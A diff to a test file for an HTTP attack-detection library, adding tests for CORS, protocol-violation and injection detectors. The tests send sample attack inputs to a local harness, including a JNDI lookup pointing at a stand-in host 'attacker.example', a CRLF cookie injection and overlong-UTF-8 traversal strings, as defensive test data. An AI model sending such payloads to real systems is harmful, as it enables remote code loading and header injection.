@@ -14,7 +14,7 @@ import { tokenAlgorithm } from '../src/jwt/header.js'
 import { createAdapterCore } from '../src/sdk.js'
 import { clientHangUps, hangUp } from '../src/testing.js'
 import { fakeContext } from './support/fake-context.js'
-import { harness, statusFromQuery } from './support/harness.js'
+import { type Handler, harness, statusFromQuery } from './support/harness.js'
 
 const get = (url: string, headers: Record<string, string> = {}) =>
   fetch(url, { headers }).then((r) => r.status)
@@ -239,13 +239,38 @@ describe('rateLimit detector', () => {
 })
 
 describe('cors detector', () => {
-  test('a foreign Origin without a granting Access-Control-Allow-Origin is reported', async () => {
+  test('an app without a CORS policy gets no CORS events: cross-origin requests are ordinary traffic', async () => {
+    const h = await harness({}, (_req, res) => res.end())
+    await get(`${h.url}/api`, { origin: 'https://other.example' })
+    await fetch(`${h.url}/api`, {
+      method: 'OPTIONS',
+      headers: { origin: 'https://other.example', 'access-control-request-method': 'DELETE' },
+    })
+    assert.deepEqual(await h.of('malicious_cors'), [])
+    await h.close()
+  })
+
+  test('with allowedOrigins, another origin the response does not grant is reported from the first request', async () => {
+    const h = await harness(
+      { detectors: { cors: { allowedOrigins: ['https://good.example'] } } },
+      (_req, res) => res.end(),
+    )
+    await get(`${h.url}/api`, { origin: 'https://good.example' })
+    await get(`${h.url}/api`, { origin: 'https://evil.example' })
+    assert.deepEqual(
+      (await h.of('malicious_cors')).map((e) => e.AdditionalFields?.Origin),
+      ['https://evil.example'],
+    )
+    await h.close()
+  })
+
+  test('once the app granted a cross-origin request, a foreign Origin it does not grant is reported', async () => {
     const h = await harness({}, (req, res) => {
       if (req.url === '/granted') res.setHeader('access-control-allow-origin', 'https://good.example')
       res.end()
     })
-    await get(`${h.url}/api`, { origin: 'https://evil.example' })
     await get(`${h.url}/granted`, { origin: 'https://good.example' })
+    await get(`${h.url}/api`, { origin: 'https://evil.example' })
     await get(`${h.url}/api`, { origin: `${h.url}` }) // same origin (browsers send it on POST)
     await get(`${h.url}/api`) // no Origin: not a browser cross-origin request
     await fetch(`${h.url}/api`, {
@@ -352,6 +377,33 @@ describe('protocol detector', () => {
     await h.close()
   })
 
+  test('a refused request is recorded with what its raw bytes still tell: target, request id, forwarded client, status', async () => {
+    const h = await harness({ trustProxy: 'loopback' }, (_req, res) => res.end())
+    const overflow = 'x'.repeat(20_000)
+    await raw(
+      h.url,
+      `GET /search?q=%0d%0a HTTP/1.1\r\nHost: x\r\nX-Request-Id: probe-42\r\nX-Forwarded-For: 203.0.113.7\r\nX-Big: ${overflow}\r\n\r\n`,
+    )
+    await raw(
+      h.url,
+      'GET /a\x01b HTTP/1.1\r\nHost: x\r\ntraceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\r\n\r\n',
+    )
+    const events = await h.of('malicious_protocol_violation')
+    assert.deepEqual(
+      events.map((e) => [e.CorrelationId, e.SrcIpAddr, e.HttpStatusCode, e.AdditionalFields?.ErrorCode]),
+      [
+        ['probe-42', '203.0.113.7', 431, 'HPE_HEADER_OVERFLOW'],
+        ['4bf92f3577b34da6a3ce929d0e0e4736', '127.0.0.1', 400, 'HPE_INVALID_URL'],
+      ],
+    )
+    assert.equal(events[0]?.Url, '/search?q=%0d%0a')
+    assert.ok(
+      !JSON.stringify(events).includes(overflow.slice(0, 300)),
+      'the oversized header is not recorded',
+    )
+    await h.close()
+  })
+
   test('only the parser refusing what the client sent is a violation: not resets, timeouts, cut requests', async () => {
     const refused = ['HPE_INVALID_METHOD', 'HPE_INVALID_HEADER_TOKEN', 'HPE_HEADER_OVERFLOW']
     refused.push('HPE_CHUNK_EXTENSIONS_OVERFLOW', 'HPE_UNEXPECTED_CONTENT_LENGTH', 'HPE_INVALID_URL')
@@ -361,7 +413,15 @@ describe('protocol detector', () => {
     for (const code of [...gone, undefined]) assert.equal(refusedByParser(code), false, String(code))
     const h = await harness({}, (_req, res) => res.end())
     for (const code of [...gone, undefined, 'HPE_INVALID_HEADER_TOKEN'])
-      h.signals.clientError({ code, remoteAddress: '127.0.0.1', remotePort: 1, method: 'GET', target: '/' })
+      h.signals.clientError({
+        code,
+        remoteAddress: '127.0.0.1',
+        remotePort: 1,
+        method: 'GET',
+        target: '/',
+        headers: {},
+        status: 400,
+      })
     assert.deepEqual(
       (await h.of('malicious_protocol_violation')).map((e) => e.AdditionalFields?.ErrorCode),
       ['HPE_INVALID_HEADER_TOKEN'],
@@ -589,6 +649,85 @@ describe('routes', () => {
     const floods = await h.of('malicious_excess_404')
     assert.equal(floods.length, 1)
     assert.equal(floods[0]?.EventCount, 2)
+    await h.close()
+  })
+})
+
+describe('injection detector', () => {
+  /** A handler that parses a JSON body onto `req.body` and answers with `?status=` (200 by default). */
+  const jsonApp: Handler = (req, res) => {
+    const chunks: Buffer[] = []
+    req.on('data', (chunk: Buffer) => chunks.push(chunk))
+    req.on('end', () => {
+      if (chunks.length > 0) (req as { body?: unknown }).body = JSON.parse(Buffer.concat(chunks).toString())
+      res.statusCode = Number(new URL(req.url ?? '/', 'http://x').searchParams.get('status') ?? 200)
+      res.end()
+    })
+  }
+  const post = (url: string, body: unknown) =>
+    fetch(url, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    })
+
+  test('the input, the rule, whether the app took it; a value under a secret name is never recorded', async () => {
+    const h = await harness({}, jsonApp)
+    const lookup = `\${jndi:ldap://attacker.example/a}`
+    await post(`${h.url}/login`, { username: 'alice', password: lookup })
+    await post(`${h.url}/search?status=403`, { filter: { q: lookup } })
+    const events = await h.of('malicious_jndi_injection')
+    assert.deepEqual(
+      events.map((e) => [e.ThreatField, e.EventResult, e.AdditionalFields?.Outcome, e.HttpStatusCode]),
+      [
+        ['body:password', 'Success', 'reached', 200],
+        ['body:filter.q', 'Failure', 'refused', 403],
+      ],
+    )
+    assert.equal(events[0]?.AdditionalFields?.MatchedFragment, '[REDACTED]')
+    assert.match(String(events[1]?.AdditionalFields?.MatchedFragment), /jndi:ldap/)
+    assert.match(String(events[0]?.RuleName), /^jndi\./)
+    assert.ok(!JSON.stringify(events[0]).includes('attacker.example'), 'nothing of the password is recorded')
+    await h.close()
+  })
+
+  test('a class switched off is not looked for; the detector switched off costs nothing', async () => {
+    const lookup = `\${jndi:ldap://attacker.example/a}`
+    const off = await harness({ detectors: { injection: { jndi: false } } }, jsonApp)
+    await post(`${off.url}/x`, { q: lookup })
+    assert.deepEqual(await off.of('malicious_jndi_injection'), [])
+    await off.close()
+    const disabled = await harness({ detectors: { injection: { enabled: false } } }, jsonApp)
+    await post(`${disabled.url}/x`, { q: lookup })
+    assert.deepEqual(await disabled.of('malicious_jndi_injection'), [])
+    await disabled.close()
+  })
+
+  test('inputs encoded as no browser encodes are protocol violations, once per request', async () => {
+    const h = await harness({}, jsonApp)
+    // CR/LF in the target itself is the protocol detector's (control_char_in_path); in a cookie it is this one's.
+    await fetch(`${h.url}/r`, { headers: { cookie: 'lang=en%0d%0aSet-Cookie:%20admin=1' } })
+    await fetch(`${h.url}/s?q=%c0%ae%c0%ae%2f`)
+    await fetch(`${h.url}/s?q=%u003cscript%u003e`)
+    await fetch(`${h.url}/s?q=caf%C3%A9`) // valid UTF-8: nothing
+    await post(`${h.url}/notes`, { text: 'line one\nline two' }) // a multi-line body value: nothing
+    assert.deepEqual(
+      (await h.of('malicious_protocol_violation')).map((e) => [e.EventOriginalResultDetails, e.ThreatField]),
+      [
+        ['crlf_injection', 'cookie:lang'],
+        ['overlong_utf8', 'query:q'],
+        ['percent_u_encoding', 'query:q'],
+      ],
+    )
+    await h.close()
+  })
+
+  test('inputs past the bounds are inspected up to them and reported once, at low severity', async () => {
+    const h = await harness({ detectors: { injection: { maxValueLength: 64 } } }, jsonApp)
+    await post(`${h.url}/upload`, { blob: 'a'.repeat(10_000) })
+    const [event] = await h.of('malicious_protocol_violation')
+    assert.equal(event?.EventOriginalResultDetails, 'oversized_input')
+    assert.equal(event?.EventSeverity, 'Low')
     await h.close()
   })
 })
